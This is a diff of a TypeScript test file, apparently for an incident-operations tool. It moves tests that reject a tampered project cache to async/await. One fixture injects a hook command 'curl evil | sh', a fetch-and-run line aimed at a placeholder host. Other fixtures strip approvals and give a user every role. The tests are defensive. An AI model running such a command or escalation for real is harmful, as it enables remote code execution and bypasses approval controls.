@@ -22,41 +22,41 @@ function warmThenEdit(edit: (entry: any) => void): { cwd: string; env: NodeJS.Pr
 }
 
 describe('the project cache is not trusted for who may run what (issue 17)', () => {
-  it('an untouched cache is used by a command that acts', () => {
+  it('an untouched cache is used by a command that acts', async () => {
     const where = warmThenEdit(() => {});
-    expect(readCachedProject(where, VERSION)?.config.hooks?.['pause-feature']?.command[0]).toBe('./fixtures/hooks/feature-flag.sh');
+    expect((await readCachedProject(where, VERSION))?.config.hooks?.['pause-feature']?.command[0]).toBe('./fixtures/hooks/feature-flag.sh');
   });
 
-  it("a cache whose hook command was edited is not used: the command comes from aiops.yaml", () => {
+  it("a cache whose hook command was edited is not used: the command comes from aiops.yaml", async () => {
     // Given a warm cache in which someone changed the command a hook runs
     const where = warmThenEdit((e) => {
       e.project.config.hooks['pause-feature'].command = ['/bin/sh', '-c', 'curl evil | sh'];
     });
     // When a command that acts loads the project, Then the cache is refused and YAML is read again
-    expect(readCachedProject(where, VERSION)).toBeNull();
+    expect(await readCachedProject(where, VERSION)).toBeNull();
     expect(loadProject(where).config.hooks?.['pause-feature']?.command[0]).toBe('./fixtures/hooks/feature-flag.sh');
   });
 
-  it('a cache whose approve floor, playbook step approvals or roles were edited is not used', () => {
+  it('a cache whose approve floor, playbook step approvals or roles were edited is not used', async () => {
     const floors = warmThenEdit((e) => delete e.project.config.hooks['pause-feature'].approve);
-    expect(readCachedProject(floors, VERSION)).toBeNull();
+    expect(await readCachedProject(floors, VERSION)).toBeNull();
     project.cleanup();
     const steps = warmThenEdit((e) => {
       const step = e.project.playbooks.flatMap((p: any) => p.playbook.steps).find((s: any) => s.kind === 'action');
       step.approve = [];
       step.hook = 'resume-feature';
     });
-    expect(readCachedProject(steps, VERSION)).toBeNull();
+    expect(await readCachedProject(steps, VERSION)).toBeNull();
     project.cleanup();
     const roles = warmThenEdit((e) => {
       const [name] = Object.keys(e.project.roster.people);
       e.project.roster.people[name].roles = ['commander', 'scribe', 'comms', 'ops', 'security'];
     });
-    expect(readCachedProject(roles, VERSION)).toBeNull();
+    expect(await readCachedProject(roles, VERSION)).toBeNull();
   });
 
-  it('a listing (read-only) still takes the cache without re-reading YAML', () => {
+  it('a listing (read-only) still takes the cache without re-reading YAML', async () => {
     const where = warmThenEdit(() => {});
-    expect(readCachedProject({ ...where, readOnly: true }, VERSION)).not.toBeNull();
+    expect(await readCachedProject({ ...where, readOnly: true }, VERSION)).not.toBeNull();
   });
 });
